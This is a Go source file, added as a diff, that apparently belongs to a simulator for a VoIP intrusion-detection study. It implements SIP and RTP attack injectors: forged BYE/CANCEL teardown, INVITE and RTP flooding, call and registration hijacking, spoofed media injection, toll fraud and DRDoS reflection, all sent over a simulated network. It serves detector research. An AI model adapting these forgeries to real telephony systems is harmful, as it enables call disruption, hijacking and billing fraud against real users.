@@ -1,0 +1,339 @@
+// Package attack implements scripted injectors for the paper's threat
+// model (Section 3): CANCEL and BYE denial of service, INVITE request
+// flooding, call hijacking via in-dialog re-INVITE, media spamming,
+// RTP flooding with codec changes, and toll fraud. Each injector
+// crafts the packets a real attacker would send — including forged
+// SIP identities and spoofed transport sources — and injects them at
+// the attacker's network attachment point.
+package attack
+
+import (
+	"fmt"
+	"time"
+
+	"vids/internal/rtp"
+	"vids/internal/sdp"
+	"vids/internal/sim"
+	"vids/internal/sipmsg"
+)
+
+// Attacker crafts and injects malicious traffic from a network node.
+type Attacker struct {
+	sim  *sim.Simulator
+	net  *sim.Network
+	host string
+	rng  *sim.RNG
+	sent uint64
+}
+
+// New creates an attacker homed at host (which must exist in the
+// topology).
+func New(s *sim.Simulator, n *sim.Network, host string) *Attacker {
+	return &Attacker{sim: s, net: n, host: host, rng: s.RNG()}
+}
+
+// Sent reports packets injected so far.
+func (a *Attacker) Sent() uint64 { return a.sent }
+
+// sendSIP injects a SIP message. If spoofSrc is non-empty the
+// datagram claims to originate from that host while physically
+// leaving the attacker's node.
+func (a *Attacker) sendSIP(m *sipmsg.Message, to sim.Addr, spoofSrc string) error {
+	from := sim.Addr{Host: a.host, Port: 5060}
+	if spoofSrc != "" {
+		from.Host = spoofSrc
+	}
+	raw := m.Bytes()
+	a.sent++
+	return a.net.SendFrom(a.host, &sim.Packet{
+		From: from, To: to, Proto: sim.ProtoSIP,
+		Size: len(raw) + 28, Payload: raw,
+	})
+}
+
+// sendRTP injects an RTP packet, optionally spoofing the media source
+// address.
+func (a *Attacker) sendRTP(p *rtp.Packet, to sim.Addr, spoofSrc string, spoofPort int) error {
+	from := sim.Addr{Host: a.host, Port: 40000}
+	if spoofSrc != "" {
+		from = sim.Addr{Host: spoofSrc, Port: spoofPort}
+	}
+	raw, err := p.Marshal()
+	if err != nil {
+		return err
+	}
+	a.sent++
+	return a.net.SendFrom(a.host, &sim.Packet{
+		From: from, To: to, Proto: sim.ProtoRTP,
+		Size: len(raw) + 28, Payload: raw,
+	})
+}
+
+// DialogInfo is what an eavesdropping attacker learned about a call
+// (the paper assumes attackers can observe SDP and dialog
+// identifiers, Section 3.2).
+type DialogInfo struct {
+	CallID    string
+	CallerTag string
+	CalleeTag string
+	CallerAOR sipmsg.URI
+	CalleeAOR sipmsg.URI
+
+	CallerHost string
+	CalleeHost string
+
+	// Media endpoints from the SDP exchange.
+	CallerMediaPort int
+	CalleeMediaPort int
+	SSRC            uint32 // sniffed from the caller's stream
+	LastSeq         uint16
+	LastTS          uint32
+}
+
+// ByeDoS sends a forged BYE that impersonates the caller, addressed
+// to the callee (Section 3.1). With spoofSource the transport source
+// is forged too, defeating source-consistency checks.
+func (a *Attacker) ByeDoS(d DialogInfo, spoofSource bool) error {
+	bye := sipmsg.NewRequest(sipmsg.BYE, sipmsg.URI{User: d.CalleeAOR.User, Host: d.CalleeHost})
+	bye.From = sipmsg.NameAddr{URI: d.CallerAOR}.WithTag(d.CallerTag)
+	bye.To = sipmsg.NameAddr{URI: d.CalleeAOR}.WithTag(d.CalleeTag)
+	bye.CallID = d.CallID
+	bye.CSeq = sipmsg.CSeq{Seq: 2, Method: sipmsg.BYE}
+	src := ""
+	if spoofSource {
+		src = d.CallerHost
+	}
+	bye.Via = []sipmsg.Via{{
+		Transport: "UDP", Host: viaHost(a.host, src), Port: 5060,
+		Params: map[string]string{"branch": "z9hG4bKatk" + a.hex(8)},
+	}}
+	return a.sendSIP(bye, sim.Addr{Host: d.CalleeHost, Port: 5060}, src)
+}
+
+// CancelDoS sends a forged CANCEL for a pending INVITE toward the
+// callee's proxy (Section 3.1). branch must match the INVITE's top
+// Via branch on that hop for the UAS to associate it.
+func (a *Attacker) CancelDoS(d DialogInfo, branch string, to sim.Addr, spoofSrc string) error {
+	cancel := sipmsg.NewRequest(sipmsg.CANCEL, sipmsg.URI{User: d.CalleeAOR.User, Host: d.CalleeAOR.Host})
+	cancel.From = sipmsg.NameAddr{URI: d.CallerAOR}.WithTag(d.CallerTag)
+	cancel.To = sipmsg.NameAddr{URI: d.CalleeAOR}
+	cancel.CallID = d.CallID
+	cancel.CSeq = sipmsg.CSeq{Seq: 1, Method: sipmsg.CANCEL}
+	cancel.Via = []sipmsg.Via{{
+		Transport: "UDP", Host: viaHost(a.host, spoofSrc), Port: 5060,
+		Params: map[string]string{"branch": branch},
+	}}
+	return a.sendSIP(cancel, to, spoofSrc)
+}
+
+// InviteFlood fires count INVITEs at the target AOR through its
+// proxy, spaced by gap (Section 3.1: "A number of IP phones together
+// may launch an INVITE flooding attack to overwhelm a single
+// telephone terminal").
+func (a *Attacker) InviteFlood(target sipmsg.URI, proxy sim.Addr, count int, gap time.Duration) {
+	for i := 0; i < count; i++ {
+		i := i
+		a.sim.Schedule(time.Duration(i)*gap, func() {
+			inv := sipmsg.NewRequest(sipmsg.INVITE, target)
+			inv.From = sipmsg.NameAddr{
+				URI: sipmsg.URI{User: fmt.Sprintf("bot%d", i), Host: "evil.example.com"},
+			}.WithTag(a.hex(8))
+			inv.To = sipmsg.NameAddr{URI: target}
+			inv.CallID = "flood-" + a.hex(10)
+			inv.CSeq = sipmsg.CSeq{Seq: 1, Method: sipmsg.INVITE}
+			inv.Via = []sipmsg.Via{{
+				Transport: "UDP", Host: a.host, Port: 5060,
+				Params: map[string]string{"branch": "z9hG4bKfld" + a.hex(8)},
+			}}
+			contact := sipmsg.NameAddr{URI: sipmsg.URI{User: "bot", Host: a.host}}
+			inv.Contact = &contact
+			inv.ContentType = "application/sdp"
+			inv.Body = sdp.New("bot", a.host, 40000, sdp.PayloadG729).Marshal()
+			_ = a.sendSIP(inv, proxy, "")
+		})
+	}
+}
+
+// Hijack sends an in-dialog re-INVITE that redirects the callee's
+// media to the attacker (Section 3.1's call-hijacking scenario).
+func (a *Attacker) Hijack(d DialogInfo) error {
+	re := sipmsg.NewRequest(sipmsg.INVITE, sipmsg.URI{User: d.CalleeAOR.User, Host: d.CalleeHost})
+	re.From = sipmsg.NameAddr{URI: d.CallerAOR}.WithTag(d.CallerTag)
+	re.To = sipmsg.NameAddr{URI: d.CalleeAOR}.WithTag(d.CalleeTag)
+	re.CallID = d.CallID
+	re.CSeq = sipmsg.CSeq{Seq: 3, Method: sipmsg.INVITE}
+	re.Via = []sipmsg.Via{{
+		Transport: "UDP", Host: a.host, Port: 5060,
+		Params: map[string]string{"branch": "z9hG4bKhjk" + a.hex(8)},
+	}}
+	contact := sipmsg.NameAddr{URI: sipmsg.URI{User: "mallory", Host: a.host}}
+	re.Contact = &contact
+	re.ContentType = "application/sdp"
+	re.Body = sdp.New("mallory", a.host, 41000, sdp.PayloadG729).Marshal()
+	return a.sendSIP(re, sim.Addr{Host: d.CalleeHost, Port: 5060}, "")
+}
+
+// MediaSpam injects count fabricated RTP packets into the callee's
+// media port reusing the sniffed SSRC with jumped sequence numbers
+// and timestamps (Section 3.2, Figure 6).
+func (a *Attacker) MediaSpam(d DialogInfo, count int, gap time.Duration) {
+	for i := 0; i < count; i++ {
+		i := i
+		a.sim.Schedule(time.Duration(i)*gap, func() {
+			p := &rtp.Packet{
+				PayloadType: sdp.PayloadG729,
+				Sequence:    d.LastSeq + 1000 + uint16(i),
+				Timestamp:   d.LastTS + 160000 + uint32(i)*160,
+				SSRC:        d.SSRC,
+				Payload:     make([]byte, 20),
+			}
+			_ = a.sendRTP(p, sim.Addr{Host: d.CalleeHost, Port: d.CalleeMediaPort},
+				d.CallerHost, d.CallerMediaPort)
+		})
+	}
+}
+
+// RTPFlood floods the callee's media port with well-formed packets at
+// interval gap, optionally switching the codec (Section 3.2:
+// "Changing the encoding scheme or flooding with RTP packets").
+func (a *Attacker) RTPFlood(d DialogInfo, count int, gap time.Duration, wrongCodec bool) {
+	payloadType := uint8(sdp.PayloadG729)
+	size := 20
+	if wrongCodec {
+		payloadType = sdp.PayloadPCMU
+		size = 160
+	}
+	for i := 0; i < count; i++ {
+		i := i
+		a.sim.Schedule(time.Duration(i)*gap, func() {
+			p := &rtp.Packet{
+				PayloadType: payloadType,
+				Sequence:    d.LastSeq + 1 + uint16(i),
+				Timestamp:   d.LastTS + 160 + uint32(i)*160,
+				SSRC:        d.SSRC,
+				Payload:     make([]byte, size),
+			}
+			_ = a.sendRTP(p, sim.Addr{Host: d.CalleeHost, Port: d.CalleeMediaPort},
+				d.CallerHost, d.CallerMediaPort)
+		})
+	}
+}
+
+// RTCPBye injects a forged RTCP BYE into the callee's control port,
+// claiming the caller's stream ended — a media-plane teardown that
+// never touches SIP (RFC 3550 BYE abuse).
+func (a *Attacker) RTCPBye(d DialogInfo) error {
+	p := &rtp.RTCP{Type: rtp.RTCPBye, SSRC: d.SSRC}
+	raw, err := p.Marshal()
+	if err != nil {
+		return err
+	}
+	a.sent++
+	return a.net.SendFrom(a.host, &sim.Packet{
+		From:    sim.Addr{Host: d.CallerHost, Port: d.CallerMediaPort + 1},
+		To:      sim.Addr{Host: d.CalleeHost, Port: d.CalleeMediaPort + 1},
+		Proto:   sim.ProtoRTCP,
+		Size:    len(raw) + 28,
+		Payload: raw,
+	})
+}
+
+// hex draws n deterministic hex digits from the simulator RNG.
+func (a *Attacker) hex(n int) string {
+	const digits = "0123456789abcdef"
+	b := make([]byte, n)
+	for i := range b {
+		b[i] = digits[a.rng.Intn(16)]
+	}
+	return string(b)
+}
+
+// viaHost picks the Via sent-by host consistent with the spoofing
+// decision.
+func viaHost(real, spoof string) string {
+	if spoof != "" {
+		return spoof
+	}
+	return real
+}
+
+// TollFraudster models a *misbehaving endpoint* rather than a third
+// party: it terminates billing with a genuine BYE but keeps its media
+// sender running (Section 3.1: "Billing and toll fraud can be
+// realized if one end sends a BYE message to stop billing but
+// continues sending RTP packets").
+type TollFraudster struct {
+	attacker *Attacker
+}
+
+// NewTollFraudster wraps an attacker positioned at the misbehaving
+// endpoint's own host.
+func NewTollFraudster(a *Attacker) *TollFraudster { return &TollFraudster{attacker: a} }
+
+// ContinueMedia keeps emitting the caller's stream after the BYE: the
+// sequence numbers continue naturally from the sniffed state.
+func (f *TollFraudster) ContinueMedia(d DialogInfo, count int, gap time.Duration) {
+	a := f.attacker
+	for i := 0; i < count; i++ {
+		i := i
+		a.sim.Schedule(time.Duration(i)*gap, func() {
+			p := &rtp.Packet{
+				PayloadType: sdp.PayloadG729,
+				Sequence:    d.LastSeq + 1 + uint16(i),
+				Timestamp:   d.LastTS + 160 + uint32(i)*160,
+				SSRC:        d.SSRC,
+				Payload:     make([]byte, 20),
+			}
+			_ = a.sendRTP(p, sim.Addr{Host: d.CalleeHost, Port: d.CalleeMediaPort},
+				d.CallerHost, d.CallerMediaPort)
+		})
+	}
+}
+
+// DRDoS fans spoofed OPTIONS requests out to the given reflectors,
+// forging the victim's address as the source. Every reflector's
+// response converges on the victim (Section 3.1: "the victim will be
+// swamped with the subsequent response messages").
+func (a *Attacker) DRDoS(victim sim.Addr, reflectors []sim.Addr, perReflector int, gap time.Duration) {
+	sent := 0
+	for r := 0; r < perReflector; r++ {
+		for _, refl := range reflectors {
+			refl := refl
+			a.sim.Schedule(time.Duration(sent)*gap, func() {
+				opts := sipmsg.NewRequest(sipmsg.OPTIONS, sipmsg.URI{Host: refl.Host})
+				opts.From = sipmsg.NameAddr{
+					URI: sipmsg.URI{User: "victim", Host: victim.Host},
+				}.WithTag(a.hex(8))
+				opts.To = sipmsg.NameAddr{URI: sipmsg.URI{Host: refl.Host}}
+				opts.CallID = "drdos-" + a.hex(10)
+				opts.CSeq = sipmsg.CSeq{Seq: 1, Method: sipmsg.OPTIONS}
+				// The spoofed Via routes the response at the victim.
+				opts.Via = []sipmsg.Via{{
+					Transport: "UDP", Host: victim.Host, Port: victim.Port,
+					Params: map[string]string{"branch": "z9hG4bKdr" + a.hex(8)},
+				}}
+				_ = a.sendSIP(opts, refl, victim.Host)
+			})
+			sent++
+		}
+	}
+}
+
+// HijackRegistration sends a forged REGISTER to the victim's
+// registrar, rebinding the victim's address-of-record to the
+// attacker's own host so future calls are delivered to the attacker.
+func (a *Attacker) HijackRegistration(victimAOR sipmsg.URI, registrar sim.Addr) error {
+	reg := sipmsg.NewRequest(sipmsg.REGISTER, sipmsg.URI{Host: victimAOR.Host})
+	reg.From = sipmsg.NameAddr{URI: victimAOR}.WithTag(a.hex(8))
+	reg.To = sipmsg.NameAddr{URI: victimAOR}
+	reg.CallID = "hijack-reg-" + a.hex(10)
+	reg.CSeq = sipmsg.CSeq{Seq: 1, Method: sipmsg.REGISTER}
+	reg.Via = []sipmsg.Via{{
+		Transport: "UDP", Host: a.host, Port: 5060,
+		Params: map[string]string{"branch": "z9hG4bKrg" + a.hex(8)},
+	}}
+	contact := sipmsg.NameAddr{URI: sipmsg.URI{User: victimAOR.User, Host: a.host}}
+	reg.Contact = &contact
+	reg.Expires = 3600
+	return a.sendSIP(reg, registrar, "")
+}
